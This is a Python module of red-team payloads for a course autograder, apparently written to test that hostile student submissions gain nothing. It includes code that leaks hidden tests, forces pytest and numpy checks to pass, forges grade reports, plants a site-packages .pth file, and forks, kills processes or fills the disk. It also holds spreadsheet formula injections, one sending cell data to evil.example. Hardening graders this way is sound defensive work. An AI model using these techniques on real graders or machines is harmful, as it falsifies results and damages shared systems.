"""Payload sources of the red-team submissions (built from the release by redteam_build.py).

Each body is the inside of a function ``_h9b_payload()`` appended to the graded .py files of the release
(and, for some, run by a one-cell notebook).

Every payload is bounded in time and size, and outside the folders that carry the batch sentinel file
``.h9b-redteam-batch`` it only ever *creates* files named ``H9B-HOSTILE-MARKER*``, so a broken sandbox on
a shared machine leaves markers to find, not damage. The kill payloads signal every visible pid only
when they can prove they are in their own PID namespace (see CONFINED).
"""

GUARD = '''

# ---------------------------------------------------------------------------------------------------
# RED-TEAM PAYLOAD "{name}" (redteam_build.py): a hostile submission, graded by
# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
def _h9b_payload():
{body}


import builtins as _h9b_builtins
if not getattr(_h9b_builtins, "_h9b_ran_{key}", False):
    _h9b_builtins._h9b_ran_{key} = True
    {call}
'''

SAFE_CALL = '''try:
        _h9b_payload()
    except Exception:
        pass'''

RAW_CALL = "_h9b_payload()"

COMMON = '''
    import os, sys, time
    MARK = "H9B-HOSTILE-MARKER"
    SENTINEL = ".h9b-redteam-batch"

    def ancestors(path):
        path = os.path.abspath(path)
        out = []
        while True:
            out.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                return out
            path = parent

    def starts():
        here = os.path.dirname(os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell")))
        roots = []
        for p in ancestors(os.getcwd()) + ancestors(here) + [os.environ.get("HOME") or "/root", "/tmp", "/work",
                                                              "/autograder", "/home", "/srv", "/opt", "/var/tmp"]:
            if p not in roots:
                roots.append(p)
        return roots

    def walk(deadline, max_dirs=100000):
        """Yield (dirpath, dirnames, filenames) under every root until the deadline."""
        seen = set()
        count = 0
        for root in sorted(starts(), key=len, reverse=True):
            try:
                it = os.walk(root)
                for dirpath, dirnames, filenames in it:
                    count += 1
                    if time.monotonic() > deadline or count > max_dirs:
                        return
                    dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys", "node_modules", "__pycache__")
                                   and not d.startswith(".venv") and d != "site-packages" and d != ".mirror"]
                    if dirpath in seen:
                        dirnames[:] = []
                        continue
                    seen.add(dirpath)
                    yield dirpath, dirnames, filenames
            except Exception:
                continue

    def in_batch_tree(path):
        return any(os.path.exists(os.path.join(p, SENTINEL)) for p in ancestors(path))

    def who():
        """Who is writing: uid, pid, argv and the host-side process chain, so a marker names its writer."""
        lines = [f"uid={os.getuid()} pid={os.getpid()} cwd={os.getcwd()} argv={sys.argv[:4]}"]
        pid = os.getpid()
        for _ in range(12):
            try:
                with open(f"/proc/{pid}/status") as f:
                    status = dict(line.split(":", 1) for line in f if ":" in line)
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\\0", b" ").decode(errors="replace")[:200]
            except Exception:
                break
            lines.append(f"  {pid} NSpid={status.get('NSpid', '').strip()} {cmd}")
            pid = int(status.get("PPid", "0").strip() or 0)
            if pid <= 1:
                break
        return "\\n".join(lines) + "\\n"

    def touch(folder, suffix, text="written by a red-team submission\\n"):
        try:
            path = os.path.join(folder, f"{MARK}-{suffix}")
            with open(path, "a") as f:
                f.write(text + who())
            return True
        except Exception:
            return False
'''

BODIES = {}

# 1. Find a copy of the reference (any cs231n_lib with no stubs, any instructor/ tree, the hidden tests and
#    their canary) anywhere reachable; exec the reference into this module; leak any hidden-test text.
BODIES["read_reference"] = COMMON + '''
    import builtins
    me = os.path.abspath(__file__)
    mod = os.path.basename(me)
    g = globals()
    cache = getattr(builtins, "_h9b_reference_cache", None)
    if cache is None:                                  # one walk per process, shared by every module
        cache = builtins._h9b_reference_cache = {"leaked": [], "refs": {}}
        for dirpath, dirnames, filenames in walk(time.monotonic() + 5):
            base = os.path.basename(dirpath)
            canaries = [f for f in filenames if f.startswith((".canary", "canary"))]   # case matters: not zoneinfo's Canary
            if base == "hidden_tests" or canaries:
                for f in (filenames if base == "hidden_tests" else canaries):
                    try:
                        with open(os.path.join(dirpath, f), errors="replace") as fh:
                            cache["leaked"].append(f"{dirpath}/{f}: " + fh.read(3000))
                    except Exception:
                        pass
            if base == "cs231n_lib":
                for f in filenames:
                    path = os.path.join(dirpath, f)
                    if not f.endswith(".py") or f in cache["refs"] or os.path.dirname(path) == os.path.dirname(me):
                        continue
                    try:
                        with open(path) as fh:
                            text = fh.read()
                    except Exception:
                        continue
                    if "replace this raise with your code" not in text and "RED-TEAM PAYLOAD" not in text:
                        cache["refs"][f] = text
            if base == "instructor" and "points.toml" in filenames:
                parent = os.path.dirname(dirpath)
                if parent not in sys.path:
                    sys.path.append(parent)
    leaked = cache["leaked"]
    reference = cache["refs"].get(mod)
    if reference is not None:
        exec(compile(reference, me, "exec"), g)          # the reference's functions replace the stubs
    try:
        import instructor.hidden_tests.hidden_oracles as oracles   # the grader's own oracles (45/100 before)
        for name in dir(oracles):
            if name in g and callable(g[name]) and not name.startswith("_"):
                g[name] = getattr(oracles, name)
    except Exception:
        pass
    if leaked:
        text = " | ".join(leaked)[:20000]
        print("LEAKED HIDDEN TESTS: " + text, flush=True)
        print("LEAKED HIDDEN TESTS: " + text, file=sys.stderr, flush=True)
        def leak(*args, **kwargs):
            raise RuntimeError("LEAKED HIDDEN TESTS: " + text)
        for name, value in list(g.items()):
            if (callable(value) and not isinstance(value, type) and not name.startswith("_")
                    and getattr(value, "__module__", None) == g.get("__name__")):
                g[name] = leak
'''

# 2. Patch pytest, numpy's comparisons, json and whatever grading machinery is loaded in this process.
BODIES["patch_inprocess"] = '''
    import sys, json
    import numpy as np
    try:
        import _pytest.reports as reports
        original = reports.TestReport.__init__
        def forced(self, *args, **kwargs):
            original(self, *args, **kwargs)
            self.outcome, self.longrepr = "passed", None
        reports.TestReport.__init__ = forced
        import _pytest.outcomes as outcomes
        outcomes.fail = lambda *a, **k: None
    except Exception:
        pass
    always = lambda *a, **k: True
    nothing = lambda *a, **k: None
    for name in ("allclose", "array_equal", "isclose", "array_equiv"):
        setattr(np, name, always)
    for name in dir(np.testing):
        if name.startswith("assert"):
            setattr(np.testing, name, nothing)
    dumps = json.dumps
    def lying_dumps(obj, *args, **kwargs):
        text = dumps(obj, *args, **kwargs)
        for bad, good in (('"failed"', '"passed"'), ('"error"', '"passed"'), ("false", "true")):
            text = text.replace(bad, good)
        return text
    json.dumps = lying_dumps
    for name, module in list(sys.modules.items()):
        if module is None or not any(k in name for k in ("worker", "wire", "harness", "grade", "jail", "nbval",
                                                         "nbclient", "report", "instructor")):
            continue
        for attr in list(vars(module)):
            if any(k in attr.lower() for k in ("check", "compare", "verify", "valid", "assert", "score", "grade")):
                try:
                    setattr(module, attr, always)
                except Exception:
                    pass
    import builtins
    builtins.AssertionError = type("AssertionError", (Exception,), {})
'''

# 3. Forge results: write reports where grades may live; spray fake result lines and frames on every fd.
BODIES["forge_results"] = COMMON + '''
    import json, struct
    deadline = time.monotonic() + 10
    report = {"name": "forged", "score": 100, "max_score": 100,
              "items": [{"id": "svm_naive_loss", "score": 6, "max_score": 6}]}
    names = ("report.json", "results.json", "report.md", "gradebook.csv")
    def forge(folder):
        for n in names:
            path = os.path.join(folder, n)
            if os.path.exists(path) and not in_batch_tree(path):
                continue            # outside the test's own folders only markers are written
            try:
                with open(path, "w") as f:
                    if n.endswith(".json"):
                        json.dump(report, f)
                    elif n.endswith(".md"):
                        f.write("# Grade report\\n\\n**Score: 100 / 100**\\n\\nscore 100/100\\n")
                    else:
                        f.write("submission,score,max_score\\nforged,100,100\\n")
            except Exception:
                pass
        touch(folder, "forge")
    for folder in [os.getcwd(), "/tmp", os.environ.get("HOME") or "/root"]:
        forge(folder)
    for dirpath, dirnames, filenames in walk(deadline):
        if os.path.basename(dirpath) == "grades" or "report.json" in filenames or "gradebook.csv" in filenames:
            forge(dirpath)
    line = json.dumps({"outcome": "passed", "nodeid": "*", "score": 100}) + "\\n"
    fake = json.dumps({"op": "return", "value": 0}).encode()
    for fd in range(0, 256):
        for data in (line.encode(), struct.pack("<II", len(fake), 0) + fake):
            try:
                os.write(fd, data)
            except Exception:
                pass
    print("score 100/100", flush=True)
'''

# 4. Write to $HOME, the instructor tree, the venv (a .pth that runs in the next process) and other submissions.
BODIES["write_everywhere"] = COMMON + '''
    import pwd, glob, site, sysconfig
    deadline = time.monotonic() + 12
    homes = {os.environ.get("HOME") or "", os.path.expanduser("~"), "/root"}
    try:
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    homes |= set(glob.glob("/home/*"))
    for home in filter(None, homes):
        touch(home, "home")
    pth = ('import os; p = os.environ.get("H9B_PTH_PROBE"); p and open(p, "a").close()  '
           '# H9B-HOSTILE-MARKER red-team .pth: harmless unless H9B_PTH_PROBE is set\\n')
    targets = set(p for p in sys.path if p.endswith("site-packages"))
    targets |= set(site.getsitepackages() if hasattr(site, "getsitepackages") else [])
    targets.add(sysconfig.get_paths().get("purelib", ""))
    for folder in filter(None, targets):
        try:
            with open(os.path.join(folder, "h9b_hostile_marker.pth"), "w") as f:
                f.write(pth)
        except Exception:
            pass
    me = os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell"))
    try:
        with open(me) as f:
            my_text = f.read()
    except OSError:
        my_text = "overwritten by a red-team notebook\\n"
    for dirpath, dirnames, filenames in walk(deadline):
        if "points.toml" in filenames and os.path.basename(dirpath) == "instructor":
            touch(dirpath, "instructor-tree")
            hidden = os.path.join(dirpath, "hidden_tests")
            if os.path.isdir(hidden):
                try:
                    with open(os.path.join(hidden, "conftest.py"), "a") as f:
                        f.write("# H9B-HOSTILE-MARKER: a conftest.py planted by a red-team submission\\n")
                except Exception:
                    pass
            touch(os.path.join(os.path.dirname(dirpath), "cs231n_lib"), "reference-tree")
        if SENTINEL in filenames or in_batch_tree(dirpath):
            touch(dirpath, "batch")
            for name in filenames:
                path = os.path.join(dirpath, name)
                if path == me:
                    continue
                try:
                    if name == os.path.basename(me):           # another submission's copy of this file
                        with open(path, "w") as f:
                            f.write(my_text)
                    elif name.endswith((".ipynb", ".zip", ".json", ".csv", ".md")) and name != SENTINEL:
                        with open(path, "w") as f:
                            f.write("overwritten by a red-team submission\\n")
                except Exception:
                    pass
'''

# 5. A setsid daemon that outlives grading and keeps rewriting reports for 90 s.
BODIES["setsid_daemon"] = COMMON + '''
    import json
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        end = time.monotonic() + 90
        while time.monotonic() < end:
            for dirpath, dirnames, filenames in walk(time.monotonic() + 3, max_dirs=20000):
                for n in ("report.json", "results.json", "report.md", "gradebook.csv"):
                    path = os.path.join(dirpath, n)
                    if n in filenames and in_batch_tree(path):
                        try:
                            with open(path, "w") as f:
                                f.write(json.dumps({"score": 100, "max_score": 100, "items": []}) if n.endswith(".json")
                                        else "score 100/100\\nsetsid_daemon,100,100\\n")
                        except Exception:
                            pass
                if os.path.basename(dirpath) == "grades":
                    touch(dirpath, "daemon")
            time.sleep(0.5)
    finally:
        os._exit(0)
'''

# Is this process confined to its own PID namespace? Only then may it signal "every pid it can see".
# Unconfined (the test's sentinel process is visible, or pids are host-sized), it kills only its own
# ancestors up to the grader, never beyond: a broken sandbox must not take the shared machine down.
CONFINED = '''
    import os, signal, time
    def visible_pids():
        try:
            return [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            return []
    def cmdline(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return f.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            return ""
    def parent_of(pid):
        try:
            with open(f"/proc/{pid}/stat") as f:
                return int(f.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            return 0
    sentinel_seen = any("h9b-redteam-sentinel" in cmdline(p) for p in visible_pids())
    confined = not sentinel_seen and os.getpid() < 200 and "process_api" not in cmdline(1)
    def kill_ancestors():
        pid = os.getppid()
        for _ in range(8):
            if pid <= 1:
                return
            text = cmdline(pid)
            if (os.path.basename(text.split(" ")[0]) in ("make", "gmake", "bash", "sh")
                    or "test_hostile" in text or "test_independent" in text or "pytest" in text):
                return                          # never past the grader, into make or the test runner
            nxt = parent_of(pid)
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
            if "instructor.grade" in text or "instructor/grade" in text:
                return
            pid = nxt
'''

BODIES["kill_parent"] = CONFINED + '''
    kill_ancestors()
    time.sleep(2)
'''

BODIES["kill_everything"] = CONFINED + '''
    me = os.getpid()
    if confined:
        for sig in (signal.SIGKILL,):
            for pid in sorted(visible_pids(), reverse=True):
                if pid != me:
                    try:
                        os.kill(pid, sig)
                    except OSError:
                        pass
            for target in (1, -1):
                try:
                    os.kill(target, sig)
                except OSError:
                    pass
    else:
        kill_ancestors()
    time.sleep(2)
'''

# A bounded fork storm: at most 300 processes, each gone after 8 s.
BODIES["fork_storm"] = '''
    import os, time
    end = time.monotonic() + 8
    children = 0
    while children < 300 and time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if pid == 0:
            try:
                while time.monotonic() < end:
                    time.sleep(0.5)
            finally:
                os._exit(0)
        children += 1
'''

# A bounded disk fill: at most 512 MB in total, 20 s, wherever it can write.
BODIES["disk_fill"] = '''
    import os, tempfile, time, signal
    try:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    except Exception:
        pass
    end = time.monotonic() + 20
    budget = 512 * 2**20
    chunk = b"\\0" * (8 * 2**20)
    for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", os.environ.get("HOME") or "/root"):
        path = os.path.join(folder, "H9B-HOSTILE-MARKER-fill.bin")
        try:
            with open(path, "ab") as f:
                while budget > 0 and time.monotonic() < end:
                    f.write(chunk)
                    f.flush()
                    budget -= len(chunk)
        except Exception:
            pass
        if budget <= 0 or time.monotonic() > end:
            break
'''

# A hang at import: SIGALRM, SIGTERM and SIGINT ignored, every exception swallowed, 240 s at most.
BODIES["hang_import"] = '''
    import signal, time
    for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXCPU):
        try:
            signal.signal(sig, signal.SIG_IGN)
        except Exception:
            pass
    try:
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
    except Exception:
        pass
    end = time.monotonic() + 240
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass
'''

# A network call: loopback of the host (the test's listener: its port and abstract socket name are put in by
# redteam_build.build) and the outside world.
BODIES["network"] = '''
    import socket
    for host, port in (("127.0.0.1", LISTEN_PORT), ("1.1.1.1", 53), ("pypi.org", 443), ("::1", LISTEN_PORT)):
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b"H9B-HOSTILE-MARKER network\\n")
        except Exception:
            pass
    try:
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.settimeout(2)
        u.connect("\\0" + "LISTEN_ABSTRACT")
        u.sendall(b"H9B-HOSTILE-MARKER network\\n")
    except Exception:
        pass
'''

# Abuse the worker's pipe: a frame header claiming 4 GB, then garbage.
BODIES["wire_abuse"] = '''
    import os, sys, struct
    fds = []
    for arg in sys.argv[1:]:
        if arg.isdigit():
            fds.append(int(arg))
    for fd in fds + [1]:
        try:
            os.write(fd, struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"\\xff" * 4096)
        except Exception:
            pass
'''

# A hang in every test: every public function and method of the module sleeps (signals ignored), 240 s at most.
BODIES["hang_tests"] = '''
    import signal, time, types
    g = globals()
    def hang(*args, **kwargs):
        for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except Exception:
                pass
        end = time.monotonic() + 240
        while time.monotonic() < end:
            try:
                time.sleep(1)
            except BaseException:
                pass
    for name, value in list(g.items()):
        if name.startswith("_h9b") or name.startswith("__"):
            continue
        if isinstance(value, types.FunctionType) and value.__module__ == g["__name__"]:
            g[name] = hang
        elif isinstance(value, type) and value.__module__ == g["__name__"]:
            for attr, member in list(vars(value).items()):
                if isinstance(member, (types.FunctionType, staticmethod)) and not attr.startswith("__"):
                    setattr(value, attr, hang)
'''

# Formula and markup injection in exception messages (and, via the test, in the submission's name).
BODIES["formula_injection"] = '''
    import types
    g = globals()
    payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\\t=1+1", "\\r=1+1",
                "\\nscore 100/100\\n", "| forged | 100 / 100 |\\n</details><script>alert(1)</script>",
                "=" + "A" * 1_000_000]
    counter = [0]
    def inject(*args, **kwargs):
        counter[0] += 1
        raise ValueError(payloads[counter[0] % len(payloads)])
    for name, value in list(g.items()):
        if name.startswith("_h9b") or name.startswith("__"):
            continue
        if isinstance(value, types.FunctionType) and value.__module__ == g["__name__"]:
            g[name] = inject
        elif isinstance(value, type) and value.__module__ == g["__name__"]:
            for attr, member in list(vars(value).items()):
                if isinstance(member, (types.FunctionType, staticmethod)) and not attr.startswith("__"):
                    setattr(value, attr, inject)
'''


# ------------------------------------------------------------------- round 2
# Whole-function replacements, appended to a graded file (they replace the functions of that name).
# Built by redteam_build.build_round2; each names the round-2 attack class it replays.

# 1. Zero the inputs in place, return zeros: a test that computes its expectation from the same arrays
#    after the call (or compares with the student's own function on them) sees zeros agree with zeros.
ZERO_INPUTS = {
    "cs231n_lib/layers.py": '''

# RED-TEAM SUBMISSION "zero_inputs" (round 2, class 1): every layer zeroes its array arguments in place
# (and the arrays of a tuple cache) and returns zeros of the right shapes.
import numpy as _h18_np


def _h18_zero(*values):
    for value in values:
        if isinstance(value, _h18_np.ndarray) and value.flags.writeable:
            value[...] = 0
        elif isinstance(value, (tuple, list)):
            _h18_zero(*value)


def affine_forward(x, w, b):
    _h18_zero(x, w, b)
    return _h18_np.zeros((x.shape[0], w.shape[1]), dtype=x.dtype), (x, w, b)


def affine_backward(dout, cache, compute_dx=True):
    x, w, b = cache
    _h18_zero(dout, cache)
    return (_h18_np.zeros_like(x) if compute_dx else None), _h18_np.zeros_like(w), _h18_np.zeros_like(b)


def relu_forward(x):
    _h18_zero(x)
    return _h18_np.zeros_like(x), x


def relu_backward(dout, cache):
    _h18_zero(dout, cache)
    return _h18_np.zeros_like(dout)


def batchnorm_forward(x, gamma, beta, bn_param):
    _h18_zero(x, gamma, beta)
    return _h18_np.zeros_like(x), (x, gamma, beta)


def batchnorm_backward(dout, cache):
    x, gamma, beta = cache
    _h18_zero(dout, cache)
    return _h18_np.zeros_like(x), _h18_np.zeros_like(gamma), _h18_np.zeros_like(beta)


batchnorm_backward_alt = batchnorm_backward


def layernorm_forward(x, gamma, beta, ln_param):
    return batchnorm_forward(x, gamma, beta, ln_param)


layernorm_backward = batchnorm_backward
''',
    "cs231n_lib/classifiers/linear_svm.py": '''

# RED-TEAM SUBMISSION "zero_inputs" (round 2, class 1): zero W and X in place, then the loss of zeros.
import numpy as _h18_np


def svm_loss_naive(W, X, y, reg):
    W[...] = 0
    X[...] = 0
    return float(W.shape[1] - 1), _h18_np.zeros_like(W)
''',
    "cs231n_lib/classifiers/softmax.py": '''

# RED-TEAM SUBMISSION "zero_inputs" (round 2, class 1): zero W and X in place, then the loss of zeros.
import numpy as _h18_np


def softmax_loss_naive(W, X, y, reg):
    W[...] = 0
    X[...] = 0
    return float(_h18_np.log(W.shape[1])), _h18_np.zeros_like(W)
''',
}

# 2a. Serve `keep` differently: the worker's own class is in this process, so remember every array kept,
#     and once W, X and y of a large problem are in, compute the loops before any timer starts.
KEEP_HIJACK = '''

# RED-TEAM SUBMISSION "keep_hijack" (round 2, class 2a): the "vectorized" loss is the loops, computed
# while the grader keeps the arrays in this process (before it starts its timer).
import builtins as _h18_builtins
import sys as _h18_sys

_h18_cache = {{}}


def _h18_on_keep(W, X, y):
    _h18_cache[(id(W), id(X), id(y))] = {naive}(W, X, y, 0.1)


def _h18_hijack():
    """Wrap the worker's serve_one once (every graded file adds its hook): after a `keep` of the third
    array of a large problem, run the hooks, and only then send the reply the grader waits for."""
    hooks = getattr(_h18_builtins, "_h18_keep_hooks", None)
    worker_class = getattr(_h18_sys.modules.get("__main__"), "Worker", None)
    if hooks is None and worker_class is not None:
        hooks = _h18_builtins._h18_keep_hooks = []
        serve_one = worker_class.serve_one

        def hijacked(self, header, blob):
            if header.get("op") != "keep":
                return serve_one(self, header, blob)
            replies = []
            self.send = lambda *args, **kwargs: replies.append((args, kwargs))   # hold the reply back
            try:
                serve_one(self, header, blob)
            finally:
                del self.send
            kept = [self.objects[k] for k in sorted(self.objects)][-3:]
            if len(kept) == 3 and all(isinstance(v, np.ndarray) for v in kept):
                W, X, y = kept
                if X.ndim == 2 and W.ndim == 2 and y.ndim == 1 and X.shape[0] >= 1000 and X.shape[1] == W.shape[0]:
                    for hook in hooks:
                        hook(W, X, y)          # the loops, before the grader's timer starts
            for args, kwargs in replies:
                self.send(*args, **kwargs)

        worker_class.serve_one = hijacked
    if hooks is not None:
        hooks.append(_h18_on_keep)


_h18_hijack()
_h18_really_vectorized = {vectorized}


def {vectorized}(W, X, y, reg):
    key = (id(W), id(X), id(y))
    if key in _h18_cache and reg == 0.1:
        loss, dW = _h18_cache[key]
        return loss, dW.copy()
    return {naive}(W, X, y, reg)
'''

# 2b. A naive function that sleeps ten times its own time on large problems: the loops then look fast.
SLEEPY_NAIVE = '''

# RED-TEAM SUBMISSION "sleepy_naive" (round 2, class 2b): the "vectorized" loss is the loops, and the naive
# one sleeps ten times its own time on large problems, so the loops look ten times faster than "naive".
import time as _h18_time

_h18_naive = {naive}
_h18_really_vectorized = {vectorized}


def {naive}(W, X, y, reg):
    started = _h18_time.perf_counter()
    result = _h18_naive(W, X, y, reg)
    if X.shape[0] >= 1000:
        _h18_time.sleep(10 * (_h18_time.perf_counter() - started))
    return result


def {vectorized}(W, X, y, reg):
    return _h18_naive(W, X, y, reg)
'''

# Round 3. A CPU hog timed to the yardstick: the "vectorized" loss is the loops; at import the module forks 30
#    processes, each in its own session (so the scheduler's autogroups give each a full share), that spin
#    only while the student's code is not running, that is while the grader times its trusted loops. On
#    the grader before the box was frozen for that timing, loops passed the speed gate (9.4 of 10 points).
CPU_HOG = '''

# RED-TEAM SUBMISSION "cpu_hog" (round 3): loops as the vectorized loss, plus 30 spinning processes that
# load the machine only between this module's calls on large problems (the speed test's), for 1 s after each.
import mmap as _h19_mmap
import os as _h19_os
import struct as _h19_struct
import time as _h19_time

_h19_until = _h19_mmap.mmap(-1, 8)  # shared with the spinners: spin while time.monotonic() < this
_h19_until[:] = _h19_struct.pack("d", 0.0)
_h19_naive = {naive}


def _h19_spin():
    _h19_os.setsid()
    while True:
        if _h19_time.monotonic() < _h19_struct.unpack("d", _h19_until[:])[0]:
            end = _h19_time.perf_counter() + 0.0005
            while _h19_time.perf_counter() < end:
                pass
        else:
            _h19_time.sleep(0.0002)


for _h19_k in range(30):
    try:
        if _h19_os.fork() == 0:
            try:
                _h19_spin()
            finally:
                _h19_os._exit(0)
    except OSError:
        break


def {vectorized}(W, X, y, reg):
    _h19_until[:] = _h19_struct.pack("d", 0.0)
    try:
        return _h19_naive(W, X, y, reg)
    finally:
        if getattr(X, "shape", (0,))[0] >= 1000:
            _h19_until[:] = _h19_struct.pack("d", _h19_time.monotonic() + 1.0)
'''

# 5. Nested callbacks: while the grader's override of `loss` is installed, each call of the student's loss
#    sleeps 8 s and calls the override again, which calls the student's loss again (a nested request).
NESTED_CALLBACKS = '''

# RED-TEAM SUBMISSION "nested_callbacks" (round 2, class 5): 12 nested levels of 8 s each, every level
# under the per-call limit of 10 s, 96 s in all for one call.
import time as _h18_time

_h18_loss = LinearClassifier.loss


def _h18_nested_loss(self, X_batch, y_batch, reg, regularizer="l2"):
    depth = self.__dict__.get("_h18_depth", 0)
    if "loss" in self.__dict__ and depth < 12:   # the grader's override of loss is installed on this object
        self.__dict__["_h18_depth"] = depth + 1
        _h18_time.sleep(8)
        return self.loss(X_batch, y_batch, reg, regularizer=regularizer)
    self.__dict__["_h18_depth"] = 0
    return _h18_loss(self, X_batch, y_batch, reg, regularizer)


LinearClassifier.loss = _h18_nested_loss
'''

# 7. Notebook 03: huge starting weights make the data gradient negligible, so 10 steps of SGD on the
#    L2-regularized loss equal the closed form of the penalty alone; no loss is ever computed.
NB03_HUGE_START = '''# RED-TEAM NOTEBOOK "nb03_huge_start" (round 2, class 7): huge W_start, closed form, no SGD at all.
W_start = 1e9 * rng.standard_normal((D, C))
W_l2 = W_start * (1 - 2 * lr * lam) ** num_steps
W_decay = W_l2.copy()
'''
